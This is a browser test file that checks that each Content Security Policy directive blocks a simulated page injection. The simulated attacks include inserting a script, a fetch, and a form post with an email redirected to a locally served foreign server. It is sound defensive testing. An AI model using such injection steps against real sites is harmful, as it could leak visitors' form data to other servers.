import type { Page } from "@playwright/test";
import { expect } from "vitest";
import { nextPaint, test } from "../support/browser.ts";

/**
 * Attacks by somebody who can write into the page, by the directive that stops each. They run in the
 * page, with the address of another server.
 */
const attacks: Record<string, (foreign: string) => unknown> = {
  "script-src": () => {
    const script = document.createElement("script");
    script.append("attack()");
    document.head.append(script);
  },
  "style-src": () => document.body.setAttribute("style", "opacity: 0.5"),
  "img-src": (foreign) => {
    new Image().src = `${foreign}/a.png`;
  },
  "connect-src": (foreign) => fetch(foreign, { mode: "no-cors" }),
  "form-action": (foreign) => {
    const form = document.querySelector("form");
    const email = document.querySelector<HTMLInputElement>("[type='email']");
    if (!form || !email) return;
    form.action = `${foreign}/attack`;
    email.value = "visitor@example.com";
    form.requestSubmit();
  },
  "require-trusted-types-for": () => {
    document.body.innerHTML = "<p>Attacked</p>";
  },
};

/** Keeps, in the page, the directive of its policy that has just stopped something. */
const recordViolation = () =>
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
    document.documentElement.dataset.violated = effectiveDirective.replace(/-(elem|attr)$/, "");
  });

/** Serves pages like to a browser without Trusted Types, which alone would stop most attacks. */
const removeTrustedTypes = (page: Page) =>
  page.route("**/", async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(/; require-trusted-types[^"]+/, "");
    await route.fulfill({ response, body });
  });

test.for(Object.entries(attacks))(
  "%s stops an attack",
  async ([directive, attack], { open, serve }) => {
    const isOfTypes = directive === "require-trusted-types-for";
    const page = await open(isOfTypes ? {} : { beforeLoad: removeTrustedTypes });
    const address = page.url();
    const foreign = await serve({});
    await page.evaluate(recordViolation);
    // A stopped attack may throw.
    await page.evaluate(attack, foreign.base).catch(() => {});
    // Locators wait for a form post that was stopped.
    const readViolation = () => page.evaluate(() => document.documentElement.dataset.violated);
    await expect.poll(readViolation).toBe(directive);
    await nextPaint(page);
    expect(foreign.requests).toEqual([]);
    expect(page.url()).toBe(address);
  },
);
